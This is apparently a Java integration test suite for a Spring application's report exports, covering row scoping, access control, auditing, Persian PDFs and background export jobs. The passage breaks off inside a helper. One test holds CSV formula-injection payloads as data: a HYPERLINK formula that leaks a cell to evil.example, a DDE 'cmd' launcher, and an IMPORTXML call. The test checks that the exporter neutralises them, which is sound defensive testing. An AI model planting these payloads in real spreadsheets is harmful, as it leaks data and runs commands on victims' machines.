package app.assets.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import app.assets.base.error.UserInputException;
import app.assets.base.i18n.Languages;
import app.assets.base.i18n.Messages;
import app.assets.identity.service.AccountService;
import app.assets.ledger.Ledger;
import app.assets.report.ReportSeed.Person;
import app.assets.report.export.Dataset;
import app.assets.report.export.ExportFile;
import app.assets.report.export.ExportFormat;
import app.assets.report.export.ExportJob;
import app.assets.report.export.ExportProperties;
import app.assets.report.export.ReportExports;
import app.assets.report.export.ReportFilter;
import app.assets.report.export.ReportQueries;
import app.assets.report.export.ReportRow;
import app.assets.support.IntegrationTest;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.text.Normalizer;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.ExecutorCompletionService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import javax.sql.DataSource;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.config.AutowireCapableBeanFactory;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.security.authentication.AuthenticationCredentialsNotFoundException;
import org.springframework.security.core.context.SecurityContextHolder;
import org.springframework.test.context.TestPropertySource;
import org.springframework.util.FileSystemUtils;

/**
 * Exports hold exactly the rows their filters select, in the exporter's scope; Persian PDFs are
 * readable; big exports run in the background and only their owner downloads them. The background
 * threshold is lowered to 50 rows here so a test can cross it quickly, and a PDF may hold 70 rows.
 */
@TestPropertySource(
        properties = {
            "assets.report.export.background-threshold=50",
            "assets.report.export.max-rows.pdf=70",
            "assets.report.export.temp-dir=${java.io.tmpdir}/assets-report-exports-test-${random.uuid}"
        })
class ReportExportsTest extends IntegrationTest {

    static final String ADMIN = "admin@assets.local";
    static final String LENDER = "lender@assets.local";
    static final String BORROWER = "borrower@assets.local";

    @Autowired
    AccountService accounts;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    Ledger ledger;

    @Autowired
    ReportQueries queries;

    @Autowired
    ReportExports exports;

    @Autowired
    ExportProperties properties;

    @Autowired
    DataSource dataSource;

    @Autowired
    ApplicationContext applicationContext;

    ReportSeed seed;
    Person alice;
    Person bob;

    @BeforeEach
    void seedTwoPeopleWithMoneyAndPayments() {
        seed = new ReportSeed(accounts, jdbc, ledger);
        alice = seed.person("alice");
        bob = seed.person("bob");
        for (int i = 0; i < 6; i++) {
            seed.fund(alice.id(), 1_000 + i, "ADJUSTMENT", "alice adjustment " + i);
            seed.fund(bob.id(), 2_000 + i, "ADJUSTMENT", "bob adjustment " + i);
        }
        seed.fund(alice.id(), 5_000, "TOP_UP", "alice top-up");
        for (String status : List.of("CREATED", "FAILED", "REDIRECTED", "FAILED")) {
            seed.payment(alice.id(), 10_000, status);
            seed.payment(bob.id(), 20_000, status);
        }
    }

    @AfterEach
    void signOut() {
        SecurityContextHolder.clearContext();
    }

    @Test
    void aCsvExportHoldsExactlyTheRowsTheFiltersSelect() throws IOException {
        actAs(ADMIN);
        var today = LocalDate.now(app.assets.base.i18n.Formats.ZONE);
        var filter = new ReportFilter(today.minusDays(1), today, "ADJUSTMENT", "adjustment", alice.email());

        var rows = csvRows(export(Dataset.TRANSACTIONS, filter));

        List<Long> gridIds = queries.find(Dataset.TRANSACTIONS, filter, 0, 1000).stream()
                .map(ReportRow::id)
                .toList();
        int independent = jdbc.sql("""
                        select count(*) from ledger_entries e join ledger_transactions t on t.id = e.transaction_id
                        join ledger_accounts a on a.id = e.account_id
                        where a.owner_user_id = ? and t.type = 'ADJUSTMENT' and t.description like '%adjustment%'""").param(alice.id()).query(Integer.class).single();
        assertThat(independent).isEqualTo(6);
        assertThat(rows).hasSize(independent);
        assertThat(rows.stream().map(r -> Long.parseLong(r.get("ID"))).toList()).isEqualTo(gridIds);
        assertThat(rows).allSatisfy(r -> {
            assertThat(r.get("User")).isEqualTo(alice.email());
            assertThat(r.get("Type")).isEqualTo("Adjustment");
        });
        assertThat(queries.count(Dataset.TRANSACTIONS, filter)).isEqualTo(independent);

        var failed = new ReportFilter(null, null, "FAILED", null, bob.email());
        var payments = csvRows(export(Dataset.PAYMENTS, failed));
        assertThat(payments)
                .hasSize(2)
                .allSatisfy(r -> assertThat(r.get("Status")).isEqualTo("Failed"));
    }

    /** Text a spreadsheet would run as a formula (OWASP's list: =, +, -, @, tab, carriage return). */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1");

    @Test
    void everyCsvExportNeutralisesSpreadsheetFormulasInTextWhileNumbersStayNumbers() throws IOException {
        for (String formula : FORMULAS) {
            seed.fund(alice.id(), 10, "ADJUSTMENT", formula);
        }
        seed.transfer(alice.id(), bob.id(), 1_234, "=1+1");
        seed.ticket(alice.id(), bob.id(), "=IMPORTXML(\"http://evil.example\",\"//a\")");
        jdbc.sql("update payments set ref_id = '-1+1' where id = (select max(id) from payments where user_id = ?)")
                .param(alice.id())
                .update();
        seed.notification(alice.id(), alice.email(), "SENT");
        jdbc.sql("update notifications set subject = '@SUM(1+1)' where user_id = ?")
                .param(alice.id())
                .update();
        jdbc.sql(
                        "insert into audit_log (actor, method, action, outcome, details) values (?, 'internal', 'test.formula', 'SUCCESS', '+cmd')")
                .param(alice.email())
                .update();
        actAs(ADMIN);
        var hers = new ReportFilter(null, null, null, null, alice.email());

        var transactions = csvRows(export(Dataset.TRANSACTIONS, hers));
        var descriptions = transactions.stream().map(r -> r.get("Description")).toList();
        for (String formula : FORMULAS) {
            assertThat(descriptions).as("written as text, not run").contains("'" + formula);
        }
        assertThat(descriptions).contains("alice adjustment 0").doesNotContain(FORMULAS.toArray(String[]::new));
        var transfer = transactions.stream()
                .filter(r -> r.get("Description").equals("'=1+1"))
                .findFirst()
                .orElseThrow();
        assertThat(transfer.get("Amount")).as("a debit stays a negative number").isEqualTo("-1234");
        assertThat(transactions).allSatisfy(r -> {
            assertThat(Long.parseLong(r.get("ID"))).isPositive();
            Long.parseLong(r.get("Amount"));
            Long.parseLong(r.get("Balance after"));
        });
        assertThat(csvRows(export(Dataset.TICKETS, hers)))
                .extracting(r -> r.get("Listing"))
                .contains("'=IMPORTXML(\"http://evil.example\",\"//a\")");
        assertThat(csvRows(export(Dataset.PAYMENTS, hers)))
                .extracting(r -> r.get("Reference"))
                .contains("'-1+1");
        assertThat(csvRows(export(Dataset.NOTIFICATIONS, hers)))
                .extracting(r -> r.get("Subject"))
                .contains("'@SUM(1+1)");
        assertThat(csvRows(export(Dataset.AUDIT_LOG, hers)))
                .extracting(r -> r.get("Details"))
                .contains("'+cmd");

        var pdf = ((ReportExports.Ready) exports.export(Dataset.PAYMENTS, ExportFormat.PDF, hers, Languages.ENGLISH))
                .file();
        try (var document = Loader.loadPDF(pdf.content())) {
            assertThat(new PDFTextStripper().getText(document))
                    .as("a PDF runs nothing: text as typed")
                    .contains("-1+1")
                    .doesNotContain("'-1+1");
        }
    }

    @Test
    void aUsersExportHoldsOnlyTheirOwnRowsWhateverTheFiltersSay() throws IOException {
        actAs(alice.email());
        var crafted = new ReportFilter(null, null, null, null, bob.email());

        var transactions = csvRows(export(Dataset.TRANSACTIONS, crafted));
        var payments = csvRows(export(Dataset.PAYMENTS, crafted));

        long aliceWallet = ledger.walletOf(alice.id());
        int ownEntries = jdbc.sql("select count(*) from ledger_entries where account_id = ?")
                .param(aliceWallet)
                .query(Integer.class)
                .single();
        assertThat(transactions).hasSize(ownEntries);
        for (var row : transactions) {
            long account = jdbc.sql("select account_id from ledger_entries where id = ?")
                    .param(Long.parseLong(row.get("ID")))
                    .query(Long.class)
                    .single();
            assertThat(account).isEqualTo(aliceWallet);
        }
        assertThat(transactions.getFirst().isMapped("User"))
                .as("no user column in one's own report")
                .isFalse();
        assertThat(payments).hasSize(4);
        for (var row : payments) {
            long owner = jdbc.sql("select user_id from payments where id = ?")
                    .param(Long.parseLong(row.get("ID")))
                    .query(Long.class)
                    .single();
            assertThat(owner).isEqualTo(alice.id());
        }
    }

    @Test
    void theTransactionsTextFindsTheCounterpartyAsWellAsTheDescription() {
        seed.transfer(alice.id(), bob.id(), 3_000, "for the camera");
        actAs(ADMIN);

        var byCounterparty = queries.find(
                Dataset.TRANSACTIONS, new ReportFilter(null, null, null, bob.email(), alice.email()), 0, 100);
        assertThat(byCounterparty).singleElement().satisfies(row -> {
            assertThat(row.value(Dataset.TRANSACTIONS, column("description"))).isEqualTo("for the camera");
            assertThat(row.value(Dataset.TRANSACTIONS, column("amount"))).isEqualTo(-3_000L);
        });

        var bySystemAccount = queries.find(
                Dataset.TRANSACTIONS, new ReportFilter(null, null, "TOP_UP", "adjustments", alice.email()), 0, 100);
        assertThat(bySystemAccount)
                .singleElement()
                .satisfies(row -> assertThat(row.value(Dataset.TRANSACTIONS, column("description")))
                        .isEqualTo("alice top-up"));

        var byDescription =
                queries.find(Dataset.TRANSACTIONS, new ReportFilter(null, null, null, "camera", bob.email()), 0, 100);
        assertThat(byDescription)
                .singleElement()
                .satisfies(row -> assertThat(row.value(Dataset.TRANSACTIONS, column("amount")))
                        .isEqualTo(3_000L));
        assertThat(queries.count(Dataset.TRANSACTIONS, new ReportFilter(null, null, null, bob.email(), null)))
                .as("bob's own entries name alice, not bob, as the other side")
                .isEqualTo(1);
    }

    static app.assets.report.export.Column column(String key) {
        return Dataset.TRANSACTIONS.columns().stream()
                .filter(c -> c.key().equals(key))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void ticketsAndNotificationsOfAUserAreThoseTheyTakePartIn() throws IOException {
        long lender = seed.demo(LENDER);
        long borrower = seed.demo(BORROWER);
        long theirs = seed.ticket(lender, borrower, "Camera for the report");
        seed.ticket(alice.id(), bob.id(), "Not the lender's");
        seed.notification(borrower, BORROWER, "SENT");
        seed.notification(alice.id(), alice.email(), "SENT");
        actAs(BORROWER);

        var tickets = csvRows(export(Dataset.TICKETS, ReportFilter.none()));
        var notifications = csvRows(export(Dataset.NOTIFICATIONS, ReportFilter.none()));

        assertThat(tickets).extracting(r -> Long.parseLong(r.get("ID"))).contains(theirs);
        String borrowerName = jdbc.sql("select display_name from users where id = ?")
                .param(borrower)
                .query(String.class)
                .single();
        assertThat(tickets)
                .allSatisfy(r ->
                        assertThat(List.of(r.get("Borrower"), r.get("Lender"))).contains(borrowerName));
        assertThat(notifications)
                .isNotEmpty()
                .allSatisfy(r -> assertThat(r.get("Recipient")).isEqualTo(BORROWER));
    }

    @Test
    void aUserCannotReadOrExportTheAuditLog() {
        actAs(alice.email());
        int deniedBefore = deniedExports();

        assertThatThrownBy(() ->
                        exports.export(Dataset.AUDIT_LOG, ExportFormat.CSV, ReportFilter.none(), Languages.ENGLISH))
                .isInstanceOf(AccessDeniedException.class);
        assertThatThrownBy(() -> queries.find(Dataset.AUDIT_LOG, ReportFilter.none(), 0, 10))
                .isInstanceOf(AccessDeniedException.class);
        assertThat(queries.readable()).doesNotContain(Dataset.AUDIT_LOG);
        assertThat(deniedExports()).isEqualTo(deniedBefore + 2);

        SecurityContextHolder.clearContext();
        assertThatThrownBy(() ->
                        exports.export(Dataset.PAYMENTS, ExportFormat.CSV, ReportFilter.none(), Languages.ENGLISH))
                .isInstanceOf(AuthenticationCredentialsNotFoundException.class);
    }

    @Test
    void readingEverybodysRowsWithoutReportExportExportsOnlyOnesOwn() throws IOException {
        var reader = seed.person("reader");
        jdbc.sql("insert into roles (code) values ('REPORT_READER') on conflict do nothing")
                .update();
        jdbc.sql("""
                insert into role_permissions (role_code, permission_code) values ('REPORT_READER', 'report.read.all')
                on conflict do nothing""").update();
        jdbc.sql("insert into user_roles (user_id, role_code) values (?, 'REPORT_READER')")
                .param(reader.id())
                .update();
        seed.fund(reader.id(), 7_000, "ADJUSTMENT", "reader adjustment");
        actAs(reader.email());
        assertThat(SecurityContextHolder.getContext().getAuthentication().getAuthorities())
                .extracting(Object::toString)
                .contains("report.read.all")
                .doesNotContain("report.export");
        assertThat(queries.find(Dataset.TRANSACTIONS, ReportFilter.none(), 0, 1000))
                .as("the reader sees everybody's rows")
                .hasSizeGreaterThan(1);
        int deniedBefore = deniedExports(reader.email());

        for (var filter : List.of(ReportFilter.none(), new ReportFilter(null, null, null, null, alice.email()))) {
            assertThatThrownBy(() -> exports.export(Dataset.TRANSACTIONS, ExportFormat.CSV, filter, Languages.ENGLISH))
                    .isInstanceOf(AccessDeniedException.class);
        }
        assertThatThrownBy(() ->
                        exports.export(Dataset.PAYMENTS, ExportFormat.PDF, ReportFilter.none(), Languages.ENGLISH))
                .isInstanceOf(AccessDeniedException.class);
        assertThat(deniedExports(reader.email())).isEqualTo(deniedBefore + 3);

        var own = csvRows(export(
                Dataset.TRANSACTIONS,
                new ReportFilter(null, null, null, null, reader.email().toUpperCase())));
        long wallet = ledger.walletOf(reader.id());
        assertThat(own).hasSize(1);
        assertThat(jdbc.sql("select account_id from ledger_entries where id = ?")
                        .param(Long.parseLong(own.getFirst().get("ID")))
                        .query(Long.class)
                        .single())
                .isEqualTo(wallet);
        assertThat(own.getFirst().get("Description")).isEqualTo("reader adjustment");
    }

    @Test
    void everyExportIsAudited() throws IOException {
        actAs(alice.email());
        int before = jdbc.sql("select count(*) from audit_log where action = 'report.export' and actor = ?")
                .param(alice.email())
                .query(Integer.class)
                .single();
        export(Dataset.PAYMENTS, ReportFilter.none());
        var details = jdbc.sql(
                        "select details from audit_log where action = 'report.export' and actor = ? order by id desc limit 1")
                .param(alice.email())
                .query(String.class)
                .single();
        assertThat(details).startsWith("PAYMENTS CSV, 4 rows").contains(alice.email());
        assertThat(jdbc.sql("select count(*) from audit_log where action = 'report.export' and actor = ?")
                        .param(alice.email())
                        .query(Integer.class)
                        .single())
                .isEqualTo(before + 1);
    }

    @Test
    void aPersianPdfIsReadableText() throws IOException {
        seed.fund(alice.id(), 1_250_000, "ADJUSTMENT", "شارژ آزمایشی کیف پول");
        actAs(ADMIN);
        var filter = new ReportFilter(null, null, null, "شارژ", alice.email());

        var started = exports.export(Dataset.TRANSACTIONS, ExportFormat.PDF, filter, Languages.PERSIAN);

        var file = ((ReportExports.Ready) started).file();
        assertThat(file.fileName()).endsWith(".pdf");
        try (var pdf = Loader.loadPDF(file.content())) {
            assertThat(pdf.getPage(0).getMediaBox().getWidth())
                    .as("landscape")
                    .isGreaterThan(pdf.getPage(0).getMediaBox().getHeight());
            var fonts = pdf.getPage(0).getResources().getFontNames();
            assertThat(fonts).isNotEmpty();
            assertThat(pdf.getPage(0)
                            .getResources()
                            .getFont(fonts.iterator().next())
                            .getName())
                    .contains("Vazirmatn");
            var stripper = new PDFTextStripper();
            stripper.setSortByPosition(true);
            String text = Normalizer.normalize(stripper.getText(pdf), Normalizer.Form.NFKC);
            assertThat(text)
                    .contains("شارژ آزمایشی کیف پول")
                    .contains("تراکنش")
                    .contains("مانده پس از آن")
                    .contains("اصلاح")
                    .contains("۱٬۲۵۰٬۰۰۰")
                    .contains("صفحه ۱ از ۱")
                    .contains(alice.email());
        }
    }

    @Test
    void aBigExportRunsInTheBackgroundAndOnlyItsOwnerDownloadsIt() throws Exception {
        for (int i = 0; i < 60; i++) {
            seed.fund(alice.id(), 100 + i, "ADJUSTMENT", "bulk " + i);
        }
        actAs(ADMIN);
        var filter = new ReportFilter(null, null, null, null, alice.email());
        int expected = queries.count(Dataset.TRANSACTIONS, filter);
        assertThat(expected).isGreaterThan(50);

        var started = exports.export(Dataset.TRANSACTIONS, ExportFormat.CSV, filter, Languages.ENGLISH);

        assertThat(started).isInstanceOf(ReportExports.Background.class);
        long id = ((ReportExports.Background) started).exportId();
        var job = awaitFinished(id);
        assertThat(job.status()).isEqualTo(ExportJob.Status.DONE);
        assertThat(job.progress()).isEqualTo(1.0);
        assertThat(job.rowsDone()).isEqualTo(expected).isEqualTo(job.rowsTotal());
        var file = exports.download(id);
        assertThat(csvRows(file)).hasSize(expected);

        actAs(alice.email());
        assertThat(exports.recent()).extracting(ExportJob::id).doesNotContain(id);
        assertThatThrownBy(() -> exports.download(id)).isInstanceOf(AccessDeniedException.class);
    }

    @Test
    void exportsOlderThanADayAreRemoved() throws Exception {
        for (int i = 0; i < 60; i++) {
            seed.fund(bob.id(), 100 + i, "ADJUSTMENT", "bulk " + i);
        }
        actAs(bob.email());
        long id = ((ReportExports.Background)
                        exports.export(Dataset.TRANSACTIONS, ExportFormat.PDF, ReportFilter.none(), Languages.PERSIAN))
                .exportId();
        assertThat(awaitFinished(id).status()).isEqualTo(ExportJob.Status.DONE);
        assertThat(exports.download(id).content()).startsWith("%PDF".getBytes(StandardCharsets.US_ASCII));

        jdbc.sql("update report_exports set created_at = now() - interval '25 hours' where id = ?")
                .param(id)
                .update();
        exports.cleanup();

        assertThat(jdbc.sql("select count(*) from report_exports where id = ?")
                        .param(id)
                        .query(Integer.class)
                        .single())
                .isZero();
    }

    @Test
    void anExportWhoseWorkerDiedIsGivenUpAfterAQuarterOfAnHourSoItsOwnerMayStartAnother() {
        long stuck = jdbc.sql("""
                insert into report_exports (user_id, dataset, format, language, created_at)
                values (?, 'TRANSACTIONS', 'CSV', 'en', now() - interval '16 minutes') returning id""").param(bob.id()).query(Long.class).single();
        long recent = jdbc.sql("""
                insert into report_exports (user_id, dataset, format, language, created_at)
                values (?, 'PAYMENTS', 'CSV', 'en', now() - interval '5 minutes') returning id""").param(alice.id()).query(Long.class).single();

        exports.cleanup();

        assertThat(jdbc.sql("select status || ' ' || error from report_exports where id = ?")
                        .param(stuck)
                        .query(String.class)
                        .single())
                .isEqualTo("FAILED INTERRUPTED");
        assertThat(jdbc.sql("select status from report_exports where id = ?")
                        .param(recent)
                        .query(String.class)
                        .single())
                .as("still within its time")
                .isEqualTo("RUNNING");
        jdbc.sql("update report_exports set status = 'FAILED', error = 'FAILED', finished_at = now() where id = ?")
                .param(recent)
                .update();
    }

    @Test
    void inOnesOwnReportsOtherPeopleAreNamedNotEmailedWhileStaffSeeEmails() throws IOException {
        jdbc.sql("update users set display_name = 'Bob the Builder' where id = ?")
                .param(bob.id())
                .update();
        jdbc.sql("update users set display_name = 'Alice Liddell' where id = ?")
                .param(alice.id())
                .update();
        seed.transfer(alice.id(), bob.id(), 3_000, "for the camera");
        long ticket = seed.ticket(bob.id(), alice.id(), "Tent for the privacy test");

        actAs(alice.email());
        var transfer = csvRows(export(Dataset.TRANSACTIONS, new ReportFilter(null, null, "TRANSFER", null, null)));
        var tickets = csvRows(export(Dataset.TICKETS, ReportFilter.none()));
        assertThat(transfer)
                .singleElement()
                .satisfies(r -> assertThat(r.get("Counterparty")).isEqualTo("Bob the Builder"));
        assertThat(tickets)
                .filteredOn(r -> r.get("ID").equals(Long.toString(ticket)))
                .singleElement()
                .satisfies(r -> {
                    assertThat(r.get("Lender")).isEqualTo("Bob the Builder");
                    assertThat(r.get("Borrower")).isEqualTo("Alice Liddell");
                });
        assertThat(queries.count(Dataset.TRANSACTIONS, new ReportFilter(null, null, null, bob.email(), null)))
                .as("another user's email finds nothing in one's own report")
                .isZero();
        assertThat(queries.count(Dataset.TRANSACTIONS, new ReportFilter(null, null, null, "builder", null)))
                .isEqualTo(1);

        actAs(ADMIN);
        var staffTransfer =
                csvRows(export(Dataset.TRANSACTIONS, new ReportFilter(null, null, "TRANSFER", null, alice.email())));
        var staffTickets = csvRows(export(Dataset.TICKETS, new ReportFilter(null, null, null, "privacy test", null)));
        assertThat(staffTransfer)
                .singleElement()
                .satisfies(r -> assertThat(r.get("Counterparty")).isEqualTo(bob.email()));
        assertThat(staffTickets).singleElement().satisfies(r -> {
            assertThat(r.get("Lender")).isEqualTo(bob.email());
            assertThat(r.get("Borrower")).isEqualTo(alice.email());
        });
    }

    @Test
    void anExportOverTheLimitForItsFormatIsRefusedUpFrontAndNothingIsWritten() {
        for (int i = 0; i < 70; i++) {
            seed.fund(alice.id(), 100 + i, "ADJUSTMENT", "many " + i);
        }
        actAs(alice.email());
        int rows = queries.count(Dataset.TRANSACTIONS, ReportFilter.none());
        assertThat(rows)
                .isGreaterThan(properties.maxRows().pdf())
                .isLessThan(properties.maxRows().csv());
        int exportsBefore = exportRows(alice.id(), null);
        int auditedBefore = jdbc.sql("select count(*) from audit_log where action like 'report.export%' and actor = ?")
                .param(alice.email())
                .query(Integer.class)
                .single();

        assertThatThrownBy(() ->
                        exports.export(Dataset.TRANSACTIONS, ExportFormat.PDF, ReportFilter.none(), Languages.ENGLISH))
                .isInstanceOfSatisfying(UserInputException.class, e -> {
                    assertThat(e.messageKey()).isEqualTo("report.export.tooManyRows");
                    assertThat(e.arguments()).containsExactly(Integer.toString(rows), "70", "PDF");
                });

        assertThat(exportRows(alice.id(), null)).isEqualTo(exportsBefore);
        assertThat(jdbc.sql("select count(*) from audit_log where action like 'report.export%' and actor = ?")
                        .param(alice.email())
                        .query(Integer.class)
                        .single())
                .isEqualTo(auditedBefore);
        var message = new Messages();
        assertThat(message.getTranslation("report.export.tooManyRows", Languages.ENGLISH, "77", "70", "PDF"))
                .contains("77", "70", "Narrow the filters");
    }

    @Test
    void aUsersBackgroundExportHoldsOnlyTheirOwnRows() throws Exception {
        for (int i = 0; i < 60; i++) {
            seed.fund(alice.id(), 100 + i, "ADJUSTMENT", "bulk " + i);
            seed.fund(bob.id(), 100 + i, "ADJUSTMENT", "bulk " + i);
        }
        actAs(alice.email());
        var crafted = new ReportFilter(null, null, null, null, bob.email());

        var started = exports.export(Dataset.TRANSACTIONS, ExportFormat.CSV, crafted, Languages.ENGLISH);

        long id = ((ReportExports.Background) started).exportId();
        assertThat(awaitFinished(id).status()).isEqualTo(ExportJob.Status.DONE);
        var rows = csvRows(exports.download(id));
        long wallet = ledger.walletOf(alice.id());
        List<Long> own = jdbc.sql("select id from ledger_entries where account_id = ? order by id desc")
                .param(wallet)
                .query(Long.class)
                .list();
        assertThat(rows.stream().map(r -> Long.parseLong(r.get("ID"))).toList()).isEqualTo(own);
        assertThat(rows.getFirst().isMapped("User")).isFalse();
    }

    @Test
    void aFailingBackgroundExportEndsFailedWithACodeAndLeavesNothingRunning() throws Exception {
        for (int i = 0; i < 60; i++) {
            seed.fund(alice.id(), 100 + i, "ADJUSTMENT", "bulk " + i);
        }
        // The directory the export is written to cannot be made: a plain file is in its place.
        var dir = Path.of(properties.tempDir());
        FileSystemUtils.deleteRecursively(dir);
        Files.createDirectories(dir.getParent());
        Files.writeString(dir, "not a directory");
        try {
            actAs(alice.email());
            long id = ((ReportExports.Background) exports.export(
                            Dataset.TRANSACTIONS, ExportFormat.PDF, ReportFilter.none(), Languages.ENGLISH))
                    .exportId();

            var job = awaitFinished(id);

            assertThat(job.status()).isEqualTo(ExportJob.Status.FAILED);
            assertThat(job.failure()).isEqualTo(ExportJob.Failure.FAILED);
            assertThat(exportRows(alice.id(), "RUNNING")).isZero();
            assertThat(jdbc.sql("select error from report_exports where id = ?")
                            .param(id)
                            .query(String.class)
                            .single())
                    .isEqualTo("FAILED");
            assertThat(jdbc.sql("""
                            select count(*) from audit_log where action = 'report.export.finished' and outcome = 'FAILURE'
                            and actor = ? and details like ?""")
                            .params(alice.email(), "export " + id + ":%")
                            .query(Integer.class)
                            .single())
                    .isEqualTo(1);
        } finally {
            Files.deleteIfExists(dir);
        }
        // The next export of the same user runs again.
        long next = ((ReportExports.Background)
                        exports.export(Dataset.TRANSACTIONS, ExportFormat.CSV, ReportFilter.none(), Languages.ENGLISH))
                .exportId();
        assertThat(awaitFinished(next).status()).isEqualTo(ExportJob.Status.DONE);
        // The worker deletes its file just after marking the export DONE.
        await().atMost(Duration.ofSeconds(10))
                .pollInterval(Duration.ofMillis(50))
                .untilAsserted(() -> assertThat(filesIn(dir))
                        .as("the temporary file is removed")
                        .isZero());
    }

    /**
     * A node stopping while an export runs: the export is marked interrupted as the node stops, not left RUNNING until
     * the clean-up gives it up, and a result its worker produces afterwards is dropped. The worker is held in its first
     * progress update by a trigger waiting on an advisory lock this test holds.
     */
    @Test
    void anExportStillRunningWhenItsNodeStopsIsMarkedInterruptedAndItsLateResultDropped() throws Exception {
        for (int i = 0; i < 60; i++) {
            seed.fund(bob.id(), 100 + i, "ADJUSTMENT", "bulk " + i);
        }
        // a node's own ReportExports, stopped below as its node would stop it; the context's stays as it is
        var beans = applicationContext.getAutowireCapableBeanFactory();
        var node = (ReportExports)
                beans.autowire(ReportExports.class, AutowireCapableBeanFactory.AUTOWIRE_CONSTRUCTOR, false);
        ownerJdbc().sql("""
                create or replace function test_hold_export_progress() returns trigger language plpgsql as $$
                begin perform pg_advisory_xact_lock_shared(4711); return new; end $$""").update();
        ownerJdbc().sql("""
                create trigger test_hold_export_progress before update on report_exports
                for each row when (new.status = 'RUNNING') execute function test_hold_export_progress()""").update();
        try (Connection lock = dataSource.getConnection()) {
            lock.createStatement().execute("select pg_advisory_lock(4711)");
            actAs(bob.email());
            long id = ((ReportExports.Background)
                            node.export(Dataset.TRANSACTIONS, ExportFormat.CSV, ReportFilter.none(), Languages.ENGLISH))
                    .exportId();
            await().atMost(Duration.ofSeconds(10))
                    .until(() -> jdbc.sql(
                                            "select count(*) from pg_locks where locktype = 'advisory' and objid = 4711 and not granted")
                                    .query(Integer.class)
                                    .single()
                            == 1);

            var stopping = Executors.newSingleThreadExecutor();
            var stopped = stopping.submit(() -> beans.destroyBean(node));
            // the node waits for the export a while, then marks it, which waits for the held worker's row lock
            await().atMost(Duration.ofSeconds(20))
                    .until(() -> jdbc.sql(
                                            "select count(*) from pg_locks where locktype in ('transactionid', 'tuple') and not granted")
                                    .query(Integer.class)
                                    .single()
                            >= 1);
            lock.createStatement().execute("select pg_advisory_unlock(4711)");
            stopped.get(20, TimeUnit.SECONDS);
            stopping.shutdown();

            assertThat(jdbc.sql("select status || ' ' || error from report_exports where id = ?")
                            .param(id)
                            .query(String.class)
                            .single())
                    .isEqualTo("FAILED INTERRUPTED");
            await().atMost(Duration.ofSeconds(10))
                    .until(() -> jdbc.sql("""
                    select count(*) from audit_log where action = 'report.export.finished' and details = ?""")
                                    .param("export " + id + ": given up while running")
                                    .query(Integer.class)
                                    .single()
                            == 1);
            assertThat(exportRows(bob.id(), "RUNNING")).isZero();
        } finally {
            ownerJdbc()
                    .sql("drop trigger if exists test_hold_export_progress on report_exports")
                    .update();
            ownerJdbc()
                    .sql("drop function if exists test_hold_export_progress()")
                    .update();
        }
    }

    @Test
    void ofTwoBackgroundExportsStartedAtOnceByOneUserOnlyOneRuns() throws Exception {
        for (int i = 0; i < 60; i++) {
            seed.fund(alice.id(), 100 + i, "ADJUSTMENT", "bulk " + i);
        }
        var pool = Executors.newFixedThreadPool(2);
        var barrier = new CyclicBarrier(2);
        var done = new ExecutorCompletionService<ReportExports.Started>(pool);
        // Holding the audit log keeps the export that got its row waiting right after the insert (it audits
        // its start next), so both requests are in flight at the same moment; the other must be refused at once.
        // (a lock the application's role may not take on the append-only log: the owner's connection)
        try (Connection lock = ownerDataSource().getConnection()) {
            lock.setAutoCommit(false);
            try (var statement = lock.createStatement()) {
                statement.execute("lock table audit_log in exclusive mode");
            }
            for (int i = 0; i < 2; i++) {
                done.submit(() -> {
                    actAs(alice.email());
                    barrier.await(10, TimeUnit.SECONDS);
                    return exports.export(
                            Dataset.TRANSACTIONS, ExportFormat.CSV, ReportFilter.none(), Languages.ENGLISH);
                });
            }
            var first = done.poll(30, TimeUnit.SECONDS);
            assertThat(first)
                    .as("one request is answered while the other waits")
                    .isNotNull();
            assertThatThrownBy(first::get)
                    .hasCauseInstanceOf(UserInputException.class)
                    .cause()
                    .satisfies(e ->
                            assertThat(((UserInputException) e).messageKey()).isEqualTo("report.export.oneAtATime"));
            assertThat(exportRows(alice.id(), "RUNNING")).isEqualTo(1);
            lock.rollback();
        } finally {
            pool.shutdown();
        }
        var second = done.poll(30, TimeUnit.SECONDS);
        assertThat(second).isNotNull();
        assertThat(second.get()).isInstanceOf(ReportExports.Background.class);
        actAs(alice.email());
        assertThat(awaitFinished(((ReportExports.Background) second.get()).exportId())
                        .status())
                .isEqualTo(ExportJob.Status.DONE);
    }

    static long filesIn(Path dir) throws IOException {
        try (var files = Files.list(dir)) {
            return files.count();
        }
    }

    int exportRows(long userId, String status) {
        return jdbc.sql(
                        "select count(*) from report_exports where user_id = ? and (cast(? as varchar) is null or status = ?)")
                .params(userId, status, status)
                .query(Integer.class)
                .single();
    }

    // ---- helpers ----

    ExportFile export(Dataset dataset, ReportFilter filter) {
        var started = exports.export(dataset, ExportFormat.CSV, filter, Languages.ENGLISH);
        assertThat(started).isInstanceOf(ReportExports.Ready.class);
        return ((ReportExports.Ready) started).file();
    }

    static List<CSVRecord> csvRows(ExportFile file) throws IOException {
        String text = new String(file.content(), StandardCharsets.UTF_8);
        assertThat(text).as("starts with a byte order mark").startsWith("\uFEFF");
        var format =
                CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get();
        try (var parser = format.parse(new StringReader(text.substring(1)))) {
            return parser.getRecords();
        }
    }

    ExportJob awaitFinished(long id) {
        // polled in this thread: listing the exports needs the caller's security context
        return await().pollInSameThread()
                .atMost(Duration.ofSeconds(60))
